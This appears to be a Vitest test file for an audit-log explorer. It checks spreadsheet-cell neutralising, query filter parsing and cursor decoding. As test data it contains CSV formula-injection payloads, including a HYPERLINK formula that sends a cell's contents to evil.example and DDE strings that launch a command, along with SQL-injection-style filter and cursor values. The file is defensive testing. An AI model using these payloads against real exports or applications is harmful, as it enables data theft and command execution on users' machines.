import { describe, expect, it } from "vitest";
import { decodeCursor, encodeCursor, inertCell, parseAuditFilters } from "~/modules/audit/explorer.server";

describe("inertCell: spreadsheet formula injection (OWASP CSV injection)", () => {
  const dangerous = [
    ["=", '=HYPERLINK("https://evil.example/?d="&A1,"Click")'],
    ["+", "+41 22 730 5111"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["carriage return", "\r=1+1"],
  ] as const;

  it.each(dangerous)("makes a cell starting with %s inert with a leading apostrophe, keeping the rest", (_name, value) => {
    expect(inertCell(value)).toBe(`'${value}`);
  });

  it.each([
    ["plain text", "Quarterly access review"],
    ["a formula character later in the cell", "a=b+c-d@e"],
    ["a JSON object", '{"status":{"before":"active","after":"revoked"}}'],
    ["a number", "42"],
    ["an ISO time", "2026-01-15T02:30:45.123Z"],
    ["Chinese text", "港景證券結算有限公司"],
    ["an empty cell", ""],
  ])("leaves %s unchanged", (_name, value) => {
    expect(inertCell(value)).toBe(value);
  });
});

describe("explorer filters from a query string", () => {
  it("reads every filter the explorer offers", () => {
    const params = new URLSearchParams({
      participantId: "B01234",
      actorUserId: "u-1",
      userId: "u-2",
      action: "role.grant.*",
      entityType: "role_grant",
      entityId: "g-1",
      from: "2026-01-01T09:00",
      to: "2026-01-31",
      cursor: "ignored-here",
      format: "csv",
    });
    expect(parseAuditFilters(params)).toEqual({
      participantId: "B01234",
      actorUserId: "u-1",
      userId: "u-2",
      action: "role.grant.*",
      entityType: "role_grant",
      entityId: "g-1",
      from: "2026-01-01T09:00",
      to: "2026-01-31",
    });
  });

  it("ignores what it cannot read rather than refusing the page", () => {
    const params = new URLSearchParams({ participantId: "b01234; drop table", action: "ROLE'--", entityType: "Role Grant", from: "" });
    const filters = parseAuditFilters(params);
    expect(filters.participantId).toBeUndefined();
    expect(filters.action).toBeUndefined();
    expect(filters.entityType).toBeUndefined();
    expect(filters.from).toBeUndefined();
  });

  it('reads "platform" as the participant filter for platform-wide events', () => {
    expect(parseAuditFilters(new URLSearchParams({ participantId: "platform" })).participantId).toBe("platform");
  });
});

describe("keyset cursor", () => {
  it("round-trips (time, id), and an unreadable cursor is no cursor", () => {
    const event = { occurredAt: new Date("2026-03-04T05:06:07.089Z"), id: 123456789 };
    expect(decodeCursor(encodeCursor(event))).toEqual(event);
    expect(decodeCursor("not-a-cursor")).toBeNull();
    expect(decodeCursor(Buffer.from("2026-01-01T00:00:00Z|1; drop").toString("base64url"))).toBeNull();
    expect(decodeCursor(null)).toBeNull();
  });
});
